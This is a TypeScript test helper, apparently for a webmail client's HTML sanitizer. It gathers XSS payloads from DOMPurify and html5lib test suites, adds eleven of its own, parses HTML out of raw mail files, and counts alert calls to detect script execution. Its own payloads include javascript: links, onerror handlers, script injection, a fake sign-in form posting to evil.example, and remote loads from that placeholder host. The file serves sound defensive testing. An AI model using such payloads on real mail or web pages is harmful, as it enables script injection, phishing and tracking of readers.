// Mail that means harm: the payloads of the sanitizers' tests, ours, and the big mails at hand.
import { readFileSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import type { Outlook } from "./world.ts";

export const MAIL = join(import.meta.dirname, "../../../shared/mail");

/** So many payloads of our own stand behind those of the sanitizers' tests. */
export const OURS = 11;

/** Payloads of the sanitizers' own tests, and ours. */
export function payloads(): string[] {
  const read = (name: string) => JSON.parse(readFileSync(join(MAIL, "sanitizer", name), "utf8"));
  const all = [...read("dompurify-expect.json").map((one: any) => one.payload), ...read("html5lib-sanitizer-tests1.json").map((one: any) => one.input)];
  const ours = [
    `<a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">y</a><a href="//evil.example/">z</a>`,
    `<div style="position:fixed;inset:0;background:url(https://evil.example/a.png)">over all</div>`,
    `<p style="margin:-9999px;background-image:image-set('https://evil.example/b.png' 1x);width:9999px">wide</p>`,
    `<img src=x onerror=alert(1)><img src="https://evil.example/c.png" srcset="https://evil.example/d.png 2x"><img src="/icons/regarding-16.png">`,
    `<table background="https://evil.example/e.png" width=4000><tr><td background="https://evil.example/f.png">t</td></tr></table>`,
    `<form action="https://evil.example/g"><input name=p><button>Sign in</button></form><input type=image src="https://evil.example/h.png">`,
    `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/i.css">`,
    `<style>@import url(https://evil.example/j.css); body{display:none}</style></body></html><script>alert(1)</script>`,
    `<video poster="https://evil.example/k.png" src="https://evil.example/l.mp4" autoplay></video><audio src="https://evil.example/m.mp3" autoplay></audio>`,
    `</iframe></template></textarea></title><img src onerror=alert(1)>`,
    `${"<div>".repeat(5_000)}deep${"</div>".repeat(5_000)}`,
  ];
  if (ours.length !== OURS) throw new Error(`${ours.length} payloads of our own`);
  return [...all, ...ours].filter((payload) => typeof payload === "string");
}

/** The HTML of a mail as it came: its first part of that type. */
export function htmlOf(file: string): string | null {
  const raw = readFileSync(file, "latin1");
  const head = /content-type:\s*text\/html[^]*?\r?\n\r?\n/i.exec(raw);
  if (!head) return null;
  const start = raw.slice(0, head.index).lastIndexOf("\n--") + 1;
  const headers = raw.slice(Math.max(start, 0), head.index + head[0].length);
  const rest = raw.slice(head.index + head[0].length);
  const end = /\r?\n--[^\s-][^\r\n]*\r?\n?/.exec(rest);
  const body = end && raw.includes("boundary=") ? rest.slice(0, end.index) : rest;
  const encoding = /content-transfer-encoding:\s*([\w-]+)/i.exec(headers)?.[1]?.toLowerCase();
  if (encoding === "base64") return Buffer.from(body, "base64").toString("utf8");
  if (encoding !== "quoted-printable") return Buffer.from(body, "latin1").toString("utf8");
  const bytes = body.replace(/=\r?\n/g, "").replace(/=([0-9a-f]{2})/gi, (_, hex) => String.fromCharCode(parseInt(hex, 16)));
  return Buffer.from(bytes, "latin1").toString("utf8");
}

export function files(folder: string): string[] {
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name);
    return statSync(path).isDirectory() ? files(path) : [path];
  });
}

/** Whatever runs from now on, in whatever frame, is seen. */
export async function watched(outlook: Outlook): Promise<void> {
  await outlook.page.addInitScript(() => {
    const ran = () => { (window.top as any).ran = ((window.top as any).ran ?? 0) + 1; };
    for (const name of ["alert", "confirm", "prompt"]) Object.defineProperty(window, name, { get: () => ran, set: () => {} });
  });
}

/** How often something ran. */
export const ran = (outlook: Outlook): Promise<unknown> => outlook.page.evaluate(() => (window as any).ran ?? 0);
